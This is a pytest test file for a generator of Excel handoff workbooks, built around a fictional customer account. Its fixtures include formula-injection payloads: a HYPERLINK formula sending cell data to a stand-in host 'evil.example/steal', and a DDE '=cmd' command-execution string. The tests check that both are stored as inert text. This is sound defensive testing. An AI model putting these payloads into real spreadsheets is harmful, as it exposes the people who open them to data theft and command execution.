"""The handoff workbook, as the incoming CSM and the team lead open it.

The story: Priya is leaving Brightwave Logística at short notice. Her answers arrived over several
messy replies (one pasted from a spreadsheet, one with stray control characters, one enormous
export of call notes). Marco, who takes over, opens the workbook and must find everything there,
exactly as Priya wrote it, with nothing turned into a live formula.
"""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from mailer.handoff.cell_text import (
    CELL_TEXT_LIMIT,
    excel_length,
    looks_like_formula,
    put_text,
    safe_cell_text,
)
from mailer.handoff.model import Contact, ContactRole, IssueItem, IssueStatus, Person, SectionAnswer
from mailer.handoff.workbook import SHEET_NAMES, build_workbook, split_for_cells
from mailer.handoff.workbook_content import (
    HandoffData,
    HistoryRow,
    PlanRow,
    VersionRow,
    summarise,
    workbook_filename,
)

CEST = timezone(timedelta(hours=2))
FIRST_REPLY = datetime(2027, 1, 11, 16, 5, tzinfo=CEST)  # 14:05 UTC
SECOND_REPLY = datetime(2027, 1, 12, 9, 30, tzinfo=UTC)
GENERATED = datetime(2027, 1, 12, 10, 0, tzinfo=UTC)

EVIL_FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for the renewal deck")'
PHONE = "+1 555 0100 is the support line they actually call"
MENTION = "@channel: the champion prefers Slack huddles over email"
DASH_LIST = "- weekly sync on Tuesdays\n- QBR every March"
CONTROL_CHARS = "Renewal notes\x00 pasted\x07 from the CRM\x1b[0m with a tab\there\r\nand CRLF"
HUGE_NOTES = "".join(
    f"Call {n:04d}: discussed route optimisation rollout, owner Joaqu\u00edn \U0001f69a.\n"
    for n in range(700)
)

SENTIMENT = (
    "Warm but watchful after the Q3 outage.\n"
    'Joaquín told me they were "one more incident away" from a competitor review.\n'
    "Since the fix shipped, weekly usage is back up 18%."
)
RENEWAL_RISK = "Competitor Routely pitched their COO in November.\nDiscount expires at renewal."


def _answers() -> tuple[SectionAnswer, ...]:
    return (
        SectionAnswer(2, SENTIMENT, FIRST_REPLY, "<r1@mail.brightwave.example>"),
        SectionAnswer(3, "Strong fit for dispatch; weak for invoicing.", FIRST_REPLY),
        SectionAnswer(9, EVIL_FORMULA, FIRST_REPLY),
        SectionAnswer(10, PHONE, FIRST_REPLY),
        SectionAnswer(10, MENTION, SECOND_REPLY),
        SectionAnswer(7, DASH_LIST, SECOND_REPLY),
        SectionAnswer(8, CONTROL_CHARS, SECOND_REPLY),
        SectionAnswer(11, HUGE_NOTES, SECOND_REPLY),
        SectionAnswer(9, RENEWAL_RISK, SECOND_REPLY),
    )


def _contacts(extra: int = 0) -> tuple[Contact, ...]:
    people = [
        Contact(
            "Joaqu\u00edn Ib\u00e1\u00f1ez",
            "VP Operations",
            "joaquin@brightwave.example",
            ContactRole.EXECUTIVE_SPONSOR,
            notes="Likes numbers first, small talk later",
        ),
        Contact("Zo\u00eb \u00c5ngstr\u00f6m", "Dispatch lead", "", ContactRole.CHAMPION),
        Contact(
            "\u674e\u96f7",
            "Ops analyst",
            "li.lei@brightwave.example",
            ContactRole.POINT_OF_CONTACT,
            notes="=cmd|' /C calc'!A0",
        ),
        Contact(
            "Dana Whitlock",
            "Former CFO",
            "dana@brightwave.example",
            ContactRole.DECISION_MAKER,
            still_there=False,
            notes="Left in December; signed the last renewal",
        ),
        Contact("Sam Okafor", "", "sam@brightwave.example", ContactRole.USER),
    ]
    people += [
        Contact(f"Driver {n}", "Driver", f"driver{n}@brightwave.example", ContactRole.USER)
        for n in range(extra)
    ]
    return tuple(people)


def _issues(extra: int = 0) -> tuple[IssueItem, ...]:
    items = [
        IssueItem("Route exports time out for fleets over 500 vans", IssueStatus.OPEN, "TKT-981"),
        IssueItem("Q3 outage credit", IssueStatus.RESOLVED, "Credited 10% in October"),
        IssueItem("+SUM(1,2) shows up in their invoices export", IssueStatus.OPEN),
    ]
    items += [IssueItem(f"Minor request {n}", IssueStatus.RESOLVED) for n in range(extra)]
    return tuple(items)


def handoff(**changes: object) -> HandoffData:
    values: dict[str, object] = dict(
        transition_id="TR-0042",
        account="Brightwave Log\u00edstica",
        type="hard",
        manager=Person("Helen Park", "helen@ourco.example"),
        outgoing=Person("Priya Natarajan", "priya@ourco.example"),
        incoming=Person("Marco Rossi", "marco@ourco.example"),
        customer_contacts=(Person("Joaqu\u00edn Ib\u00e1\u00f1ez", "joaquin@brightwave.example"),),
        effective_date=date(2027, 1, 18),
        last_day=date(2027, 1, 29),
        renewal_date=date(2027, 6, 30),
        reason="Priya is moving to the partnerships team.",
        share_reason=True,
        answers=_answers(),
        current_answers={
            2: SENTIMENT,
            3: "Strong fit for dispatch; weak for invoicing.",
            7: DASH_LIST,
            8: CONTROL_CHARS,
            9: RENEWAL_RISK,
            10: PHONE + "\n" + MENTION,
            11: HUGE_NOTES,
        },
        section_titles={2: "How the customer feels", 9: "Renewal risk", 11: "Big events"},
        contacts=_contacts(),
        issues=_issues(),
        plan=(
            PlanRow(
                "Introduce Marco to the customer",
                "Helen Park",
                "joaquin@brightwave.example",
                datetime(2027, 1, 18, 9, 0, tzinfo=UTC),
                "planned",
            ),
            PlanRow("Leadership check-in", "Helen Park", "customer", None, "waiting"),
        ),
        history=(
            HistoryRow(
                datetime(2027, 1, 11, 8, 0, tzinfo=UTC),
                "out",
                "transitions@ourco.example",
                ("priya@ourco.example",),
                "[TR-0042] Handoff questions for Brightwave",
            ),
            HistoryRow(
                FIRST_REPLY,
                "in",
                "priya@ourco.example",
                ("transitions+abc@ourco.example", "helen@ourco.example"),
                "=RE: [TR-0042] Handoff questions",
                "sections 2, 3, 9, 10",
            ),
        ),
        versions=(
            VersionRow(1, FIRST_REPLY, "First answers"),
            VersionRow(2, SECOND_REPLY, "Renewal risk updated; call notes added"),
        ),
        generated_at=GENERATED,
    )
    values.update(changes)
    return HandoffData(**values)  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def xlsx() -> bytes:
    return build_workbook(handoff())


@pytest.fixture(scope="module")
def book(xlsx: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(xlsx))


def column(ws: Worksheet, letter: str, first_row: int = 2) -> list[object]:
    return [cell.value for cell in ws[letter][first_row - 1 :]]


def overview(book: openpyxl.Workbook) -> dict[str, object]:
    ws = book["Overview"]
    return {row[0].value: row[1].value for row in ws.iter_rows(min_row=3) if row[0].value}


# --- the shape Marco sees --------------------------------------------------------------------


def test_sheets_come_in_the_order_a_csm_reads_them(book: openpyxl.Workbook) -> None:
    assert (
        tuple(book.sheetnames)
        == SHEET_NAMES
        == (
            "Overview",
            "Contacts",
            "Issues",
            "Wins & Goals",
            "Contract",
            "Plan",
            "Answers",
            "History",
            "Versions",
            "Debrief",
        )
    )


EXPECTED_HEADERS = {
    "Overview": (2, ["Topic", "Details"]),
    "Contacts": (1, ["Name", "Title", "Email", "Role on the account", "Still there?", "Notes"]),
    "Issues": (1, ["Issue", "Status", "Notes"]),
    "Wins & Goals": (1, ["Topic", "What the outgoing CSM wrote"]),
    "Contract": (1, ["Topic", "Details"]),
    "Plan": (1, ["Step", "Owner", "Sent to", "When (UTC)", "Status"]),
    "Answers": (1, ["Section", "Section title", "Part", "Answer as written", "Received (UTC)"]),
    "History": (1, ["When (UTC)", "Direction", "From", "To", "Subject", "What it was"]),
    "Versions": (1, ["Saved (UTC)", "Version", "What changed"]),
    "Debrief": (1, ["Topic", "What the incoming CSM wrote"]),
}


@pytest.mark.parametrize("name", SHEET_NAMES)
def test_every_sheet_has_a_styled_frozen_filtered_header(
    book: openpyxl.Workbook, name: str
) -> None:
    ws = book[name]
    header_row, headers = EXPECTED_HEADERS[name]
    cells = ws[header_row][: len(headers)]
    assert [cell.value for cell in cells] == headers
    assert all(cell.font.bold and cell.fill.fgColor.rgb.endswith("1F4E79") for cell in cells)
    assert ws.freeze_panes == f"A{header_row + 1}"
    filter_start, filter_end = ws.auto_filter.ref.split(":")
    assert filter_start == f"A{header_row}"
    assert filter_end.startswith(chr(ord("A") + len(headers) - 1))
    assert ws.page_setup.orientation == "landscape"
    assert ws.page_setup.fitToWidth == 1
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert all(ws.column_dimensions[chr(ord("A") + i)].width >= 9 for i in range(len(headers)))


def test_filters_cover_exactly_the_data_rows(book: openpyxl.Workbook) -> None:
    assert book["Contacts"].auto_filter.ref == "A1:F6"
    assert book["Issues"].auto_filter.ref == "A1:C4"
    assert book["Plan"].auto_filter.ref == "A1:E3"
    assert book["History"].auto_filter.ref == "A1:F3"


# --- Overview --------------------------------------------------------------------------------


def test_overview_reads_as_a_one_page_brief(book: openpyxl.Workbook) -> None:
    ws = book["Overview"]
    assert ws["A1"].value == "Brightwave Log\u00edstica \u2014 handoff brief (TR-0042)"
    facts = overview(book)
    assert facts["Account"] == "Brightwave Log\u00edstica"
    assert facts["Transition"] == "TR-0042"
    assert str(facts["Type of handoff"]).startswith("Hard")
    assert facts["Team lead"] == "Helen Park <helen@ourco.example>"
    assert facts["Outgoing CSM"] == "Priya Natarajan <priya@ourco.example>"
    assert facts["Incoming CSM"] == "Marco Rossi <marco@ourco.example>"
    assert facts["Effective date"] == datetime(2027, 1, 18)
    assert facts["Outgoing CSM's last day"] == datetime(2027, 1, 29)
    assert facts["Renewal date"] == datetime(2027, 6, 30)
    assert facts["Reason for the change"] == "Priya is moving to the partnerships team."
    assert facts["Customer sentiment"] == SENTIMENT, "one row, the whole answer"
    assert "Customer sentiment in full" not in facts and len(
        [k for k in facts if "sentiment" in str(k).lower()]) == 1
    assert facts["How well they fit the product"] == "Strong fit for dispatch; weak for invoicing."
    assert facts["How they like to communicate"] == PHONE + "\n" + MENTION
    assert facts["Where the documents live"] == "Not answered yet."
    assert facts["Open issues"] == 2
    assert facts["Resolved issues"] == 1
    assert facts["Handoff version"] == 2
    assert facts["Workbook made at (UTC)"] == datetime(2027, 1, 12, 10, 0)


def test_overview_puts_the_sentiment_line_in_bold(book: openpyxl.Workbook) -> None:
    ws = book["Overview"]
    row = next(r for r in ws.iter_rows(min_row=3) if r[0].value == "Customer sentiment")
    assert row[1].font.bold


def test_overview_lists_top_risks_and_key_contacts(book: openpyxl.Workbook) -> None:
    facts = overview(book)
    assert facts["Top risks"] == (
        "\u2022 Renewal: Competitor Routely pitched their COO in November.\n"
        "\u2022 Open issue: Route exports time out for fleets over 500 vans\n"
        "\u2022 Open issue: +SUM(1,2) shows up in their invoices export"
    )
    assert facts["Key contacts"] == (
        "Point of contact: \u674e\u96f7, Ops analyst (li.lei@brightwave.example)\n"
        "Executive sponsor: Joaqu\u00edn Ib\u00e1\u00f1ez, VP Operations "
        "(joaquin@brightwave.example)\n"
        "Champion: Zo\u00eb \u00c5ngstr\u00f6m, Dispatch lead"
    )


def test_overview_says_plainly_what_is_missing() -> None:
    bare = handoff(
        renewal_date=None, reason="", answers=(), current_answers={}, issues=(), contacts=()
    )
    facts = overview(openpyxl.load_workbook(io.BytesIO(build_workbook(bare))))
    assert facts["Renewal date"] == "Not known yet"
    assert facts["Reason for the change"] == "No reason given"
    assert facts["Customer sentiment"] == "Not answered yet."
    assert facts["Top risks"] == "No open issues or renewal concerns reported."
    assert facts["Handoff version"] == 2


# --- Contacts and Issues ---------------------------------------------------------------------


def test_contacts_keep_every_detail_and_grey_out_people_who_left(
    book: openpyxl.Workbook,
) -> None:
    ws = book["Contacts"]
    rows = [[cell.value for cell in row] for row in ws.iter_rows(min_row=2, max_row=6)]
    assert rows[1] == [
        "Zo\u00eb \u00c5ngstr\u00f6m",
        "Dispatch lead",
        None,
        "champion",
        "Yes",
        None,
    ]
    assert rows[2][5] == "=cmd|' /C calc'!A0"
    assert rows[3][:5] == [
        "Dana Whitlock",
        "Former CFO",
        "dana@brightwave.example",
        "decision maker",
        "No",
    ]
    assert all(cell.font.strike and cell.font.color.rgb.endswith("808080") for cell in ws[5])
    assert not any(cell.font.strike for cell in ws[2])


def test_contacts_offer_role_and_still_there_drop_downs(book: openpyxl.Workbook) -> None:
    validations = {
        str(dv.sqref): dv.formula1 for dv in book["Contacts"].data_validations.dataValidation
    }
    assert validations == {
        "D2:D106": '"point of contact,executive sponsor,champion,decision maker,user,other"',
        "E2:E106": '"Yes,No"',
    }


def test_issues_highlight_what_is_still_open(book: openpyxl.Workbook) -> None:
    ws = book["Issues"]
    assert column(ws, "A") == [
        "Route exports time out for fleets over 500 vans",
        "Q3 outage credit",
        "+SUM(1,2) shows up in their invoices export",
    ]
    assert column(ws, "B") == ["open", "resolved", "open"]
    fills = [ws[f"A{row}"].fill.fgColor.rgb[-6:] for row in (2, 3, 4)]
    assert fills[0] == fills[2] == "FCE4D6"
    assert fills[1] != "FCE4D6"
    (status_list,) = ws.data_validations.dataValidation
    assert status_list.formula1 == '"open,resolved"'
    assert str(status_list.sqref) == "B2:B104"


# --- Wins & Goals, Contract, Plan ------------------------------------------------------------


def test_wins_goals_and_contract_show_the_sections_by_topic(book: openpyxl.Workbook) -> None:
    wins = book["Wins & Goals"]
    assert column(wins, "A") == ["Successes", "Goals", "Current projects"]
    assert column(wins, "B") == ["Not answered yet.", "Not answered yet.", DASH_LIST]

    contract = book["Contract"]
    assert column(contract, "A") == [
        "Renewal date",
        "Contract",
        "Renewal risk",
        "Communication",
        "Big events",
        "Documents",
    ]
    assert contract["B2"].value == datetime(2027, 6, 30)
    assert contract["B2"].number_format == "yyyy-mm-dd"
    assert contract["B3"].value == safe_cell_text(CONTROL_CHARS)
    assert contract["B4"].value == RENEWAL_RISK


def test_plan_dates_are_real_excel_dates_in_utc(book: openpyxl.Workbook) -> None:
    ws = book["Plan"]
    assert ws["A2"].value == "Introduce Marco to the customer"
    assert ws["D2"].value == datetime(2027, 1, 18, 9, 0)
    assert ws["D2"].is_date and ws["D2"].number_format == "yyyy-mm-dd hh:mm"
    assert ws["D3"].value is None
    assert ws["E3"].value == "waiting"


# --- Answers: nothing is lost ----------------------------------------------------------------


def answers_as_stored(book: openpyxl.Workbook) -> list[tuple[int, str, datetime]]:
    """Rejoin continuation rows into one text per received answer."""
    stored: list[tuple[int, str, datetime]] = []
    for section, _title, part, text, received in book["Answers"].iter_rows(
        min_row=2, values_only=True
    ):
        number, _of, _total = str(part).split()
        if number == "1":
            stored.append((section, text or "", received))
        else:
            previous_section, previous_text, previous_received = stored[-1]
            assert (previous_section, previous_received) == (section, received)
            stored[-1] = (section, previous_text + text, received)
    return stored


def test_every_answer_is_kept_exactly_as_written(book: openpyxl.Workbook) -> None:
    expected = sorted(_answers(), key=lambda answer: answer.section)
    stored = answers_as_stored(book)
    assert [(section, text) for section, text, _ in stored] == [
        (answer.section, safe_cell_text(answer.text)) for answer in expected
    ]
    received = [at for _, _, at in stored]
    assert received == [
        answer.received_at.astimezone(UTC).replace(tzinfo=None) for answer in expected
    ]
    # Only the control characters changed, one for one, into visible replacement marks, and
    # the line end became the LF a cell uses (XML readers differ on a written CR LF).
    assert safe_cell_text(CONTROL_CHARS) == (
        "Renewal notes\ufffd pasted\ufffd from the CRM\ufffd[0m with a tab\there\nand CRLF"
    )


def test_both_answers_to_one_section_are_kept_in_arrival_order(book: openpyxl.Workbook) -> None:
    ws = book["Answers"]
    tens = [row for row in ws.iter_rows(min_row=2, values_only=True) if row[0] == 10]
    assert [(row[3], row[4]) for row in tens] == [
        (PHONE, datetime(2027, 1, 11, 14, 5)),
        (MENTION, datetime(2027, 1, 12, 9, 30)),
    ]


def test_a_huge_answer_continues_on_the_next_row_instead_of_being_cut(
    book: openpyxl.Workbook,
) -> None:
    ws = book["Answers"]
    parts = [row for row in ws.iter_rows(min_row=2, values_only=True) if row[0] == 11]
    assert [row[2] for row in parts] == ["1 of 2", "2 of 2"]
    assert all(excel_length(row[3]) <= CELL_TEXT_LIMIT for row in parts)
    assert parts[0][3].endswith("\n")  # the break falls between two lines of notes
    assert parts[0][3] + parts[1][3] == HUGE_NOTES
    assert excel_length(HUGE_NOTES) > 40_000


def test_a_huge_answer_is_shortened_with_a_note_outside_answers(
    book: openpyxl.Workbook,
) -> None:
    events = book["Contract"]["B6"].value
    assert excel_length(events) <= CELL_TEXT_LIMIT
    assert events.endswith("The complete text is on the Answers sheet.]")
    assert HUGE_NOTES.startswith(events.split("\n\n[Shortened")[0])


def test_a_plan_step_longer_than_a_cell_is_shortened_not_a_failed_workbook() -> None:
    """A playbook's step title and a step's recipients are written by people: the workbook
    still gets built when one is longer than a cell holds (found by the generated workbooks
    of test_workbook_shared_parts)."""
    title = "Walk the customer through the migration plan. " * 1_000
    long_plan = (PlanRow(title, "Helen Park", "customer", None, "planned"),)
    plan = openpyxl.load_workbook(io.BytesIO(build_workbook(handoff(plan=long_plan))))["Plan"]
    shown = plan["A2"].value
    assert excel_length(shown) <= CELL_TEXT_LIMIT
    assert shown.endswith("[Shortened to fit one cell.]")
    assert title.startswith(shown.split("\n\n[Shortened")[0])


# --- History ---------------------------------------------------------------------------------


def test_history_lists_every_email_and_the_version_log(book: openpyxl.Workbook) -> None:
    rows = list(book["History"].iter_rows(min_row=2, values_only=True))
    assert rows[0] == (
        datetime(2027, 1, 11, 8, 0),
        "Sent",
        "transitions@ourco.example",
        "priya@ourco.example",
        "[TR-0042] Handoff questions for Brightwave",
        None,
    )
    assert rows[1][:5] == (
        datetime(2027, 1, 11, 14, 5),
        "Received",
        "priya@ourco.example",
        "transitions+abc@ourco.example, helen@ourco.example",
        "=RE: [TR-0042] Handoff questions",
    )
    assert len(rows) == 2, "History is one table: the versions have a sheet of their own"
    versions = list(book["Versions"].iter_rows(min_row=2, values_only=True))
    assert versions[0][:3] == (datetime(2027, 1, 11, 14, 5), 1, "First answers")
    assert versions[1][:3] == (
        datetime(2027, 1, 12, 9, 30),
        2,
        "Renewal risk updated; call notes added",
    )


# --- safety ----------------------------------------------------------------------------------


def test_no_sheet_contains_a_formula(xlsx: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert len(sheets) == len(SHEET_NAMES)
        for name in sheets:
            assert not re.search(rb"<f[ >]", archive.read(name)), name


def test_formula_looking_text_is_plain_quoted_text(book: openpyxl.Workbook) -> None:
    ws = book["Answers"]
    cells = {cell.value: cell for cell in ws["D"][1:]}
    for text in (EVIL_FORMULA, PHONE, MENTION, DASH_LIST):
        assert cells[text].data_type == "s"
        assert cells[text].quotePrefix, text
    assert not cells[RENEWAL_RISK].quotePrefix


def test_cell_text_keeps_tabs_and_line_breaks_as_lf_but_replaces_what_xml_forbids() -> None:
    assert safe_cell_text("a\tb\nc\r\nd\re") == "a\tb\nc\nd\ne"
    assert safe_cell_text("bell\x07 nul\x00 esc\x1b") == "bell\ufffd nul\ufffd esc\ufffd"
    assert safe_cell_text("lone \ud800 and \ufffe") == "lone \ufffd and \ufffd"
    assert safe_cell_text("Zo\u00eb \U0001f69a") == "Zo\u00eb \U0001f69a"


def _xml_char(code: int) -> bool:
    """XML 1.0's Char production, as the specification writes it."""
    return (code in (0x9, 0xA, 0xD) or 0x20 <= code <= 0xD7FF or 0xE000 <= code <= 0xFFFD
            or 0x10000 <= code <= 0x10FFFF)


def test_cell_text_replaces_exactly_the_characters_xml_forbids_of_every_code_point() -> None:
    every = "".join(chr(code) for code in range(0x110000) if code != 0xD)  # CR becomes LF
    cleaned = safe_cell_text(every)
    assert len(cleaned) == len(every)
    wrong = [hex(ord(before)) for before, after in zip(every, cleaned, strict=True)
             if (after == before) != _xml_char(ord(before)) and before != "\ufffd"]
    assert wrong == []


def test_cell_text_replaces_exactly_the_characters_xml_1_0_forbids() -> None:
    # Every code point, against the XML 1.0 Char production itself: printable text takes a
    # quicker path that must not let a single forbidden character through.
    for code in range(0x110000):
        char = chr(code)
        allowed = (code in (0x9, 0xA, 0xD) or 0x20 <= code <= 0xD7FF
                   or 0xE000 <= code <= 0xFFFD or code >= 0x10000)
        expected = "\n" if char == "\r" else char if allowed else "\ufffd"
        assert safe_cell_text(char) == expected, hex(code)


@pytest.mark.parametrize(
    ("text", "risky"),
    [
        ("=1+2", True),
        ("+1 555", True),
        ("-2", True),
        ("@mention", True),
        ("\tindented", True),
        ("\rcarriage", True),
        ("  =padded", True),
        ("\uff1dSUM(A1)", True),
        ("Plain words = fine", False),
        ("", False),
    ],
)
def test_formula_triggers_are_recognised(text: str, risky: bool) -> None:
    assert looks_like_formula(text) is risky


def test_put_text_refuses_to_cut_text_silently() -> None:
    cell = openpyxl.Workbook().active["A1"]
    with pytest.raises(ValueError, match="limit"):
        put_text(cell, "x" * (CELL_TEXT_LIMIT + 1))


def test_split_counts_emoji_the_way_excel_does() -> None:
    text = "\U0001f69a" * 20
    parts = split_for_cells(text, limit=7)
    assert "".join(parts) == text
    assert all(excel_length(part) <= 7 for part in parts)


# --- summary and file name -------------------------------------------------------------------


def test_summary_for_the_email_body() -> None:
    summary = summarise(handoff())
    assert summary.renewal_date == date(2027, 6, 30)
    assert summary.sentiment == "Warm but watchful after the Q3 outage."
    assert summary.top_risks[0] == "Renewal: Competitor Routely pitched their COO in November."
    assert len(summary.top_risks) == 3
    assert [contact.role for contact in summary.key_contacts] == [
        ContactRole.POINT_OF_CONTACT,
        ContactRole.EXECUTIVE_SPONSOR,
        ContactRole.CHAMPION,
    ]
    assert (summary.open_issues, summary.resolved_issues) == (2, 1)


def test_summary_without_renewal_risk_lists_open_issues_only() -> None:
    summary = summarise(handoff(current_answers={}))
    assert summary.top_risks == (
        "Open issue: Route exports time out for fleets over 500 vans",
        "Open issue: +SUM(1,2) shows up in their invoices export",
    )


def test_a_sponsor_who_left_is_not_a_key_contact() -> None:
    gone = Contact("Ada Moss", "CEO", "ada@x.example", ContactRole.EXECUTIVE_SPONSOR, False)
    assert summarise(handoff(contacts=(gone,))).key_contacts == ()


@pytest.mark.parametrize(
    ("account", "expected"),
    [
        ("Brightwave Log\u00edstica", "Brightwave Log\u00edstica handoff TR-0042.xlsx"),
        ('Acme/Beta: "Holdings" <EU>|*?', "Acme Beta Holdings EU handoff TR-0042.xlsx"),
        ("..hidden\\corp.", "hidden corp. handoff TR-0042.xlsx"),
        ("Acme Co.", "Acme Co. handoff TR-0042.xlsx"),
        ("Smith & Sons, Inc. (EMEA)", "Smith & Sons, Inc. (EMEA) handoff TR-0042.xlsx"),
        ("Con. Holdings", "Con_. Holdings handoff TR-0042.xlsx"),
        ("CON", "CON handoff TR-0042.xlsx"),
        ("  Tabs\tand\nnewlines\x00 ", "Tabs and newlines handoff TR-0042.xlsx"),
        ("///", "Account handoff TR-0042.xlsx"),
    ],
)
def test_workbook_filename_is_safe_everywhere(account: str, expected: str) -> None:
    assert workbook_filename(account, "TR-0042") == expected


# --- a bigger book and a real spreadsheet program --------------------------------------------


def test_a_big_account_builds_and_reads_back() -> None:
    data = handoff(contacts=_contacts(extra=45), issues=_issues(extra=27))
    book = openpyxl.load_workbook(io.BytesIO(build_workbook(data)))
    assert book["Contacts"].max_row == 51
    assert book["Issues"].auto_filter.ref == "A1:C31"


def test_libreoffice_opens_it_without_complaint(xlsx: bytes, tmp_path: Path) -> None:
    office = shutil.which("libreoffice") or shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed, so the open-in-a-real-program check cannot run")
    source = tmp_path / workbook_filename("Brightwave Log\u00edstica", "TR-0042")
    source.write_bytes(xlsx)
    result = subprocess.run(
        [
            office,
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        capture_output=True,
        timeout=120,
        check=False,
    )
    pdf = source.with_suffix(".pdf")
    assert result.returncode == 0, result.stderr
    assert pdf.exists() and pdf.stat().st_size > 1000
    assert pdf.read_bytes().startswith(b"%PDF")


def test_the_debrief_has_its_own_sheet_once_the_incoming_csm_answers() -> None:
    debrief = ("=Most useful: the contacts sheet.\nMissing: nothing on the SSO history.\n"
               "The customer did not have to repeat anything.")
    answered = openpyxl.load_workbook(io.BytesIO(build_workbook(handoff(debrief=debrief))))
    rows = list(answered["Debrief"].iter_rows(min_row=2, values_only=True))
    assert rows == [("Debrief from Marco Rossi", debrief)]
    assert answered["Debrief"]["B2"].data_type == "s"  # typed text, never a formula
    waiting = list(book_of(handoff())["Debrief"].iter_rows(min_row=2, values_only=True))
    assert waiting[0][1].startswith("Not yet")


def book_of(data: HandoffData) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(build_workbook(data)))


@pytest.mark.parametrize("account", ["A" * 400, "東京海上" * 80, "\U0001f680 Rocket Co." * 40])
def test_a_long_account_name_still_makes_a_name_every_file_system_accepts(
        account: str, tmp_path: Path) -> None:
    name = workbook_filename(account, "TR-0042")
    versioned = name.replace(".xlsx", " v99.xlsx")
    for candidate in (name, versioned, f".{name}.tmp"):
        assert len(candidate.encode("utf-8")) <= 255  # Linux
        assert len(candidate.encode("utf-16-le")) // 2 <= 255  # Windows, macOS
    assert name.endswith(" handoff TR-0042.xlsx")
    (tmp_path / versioned).write_bytes(b"x")  # and this file system takes it
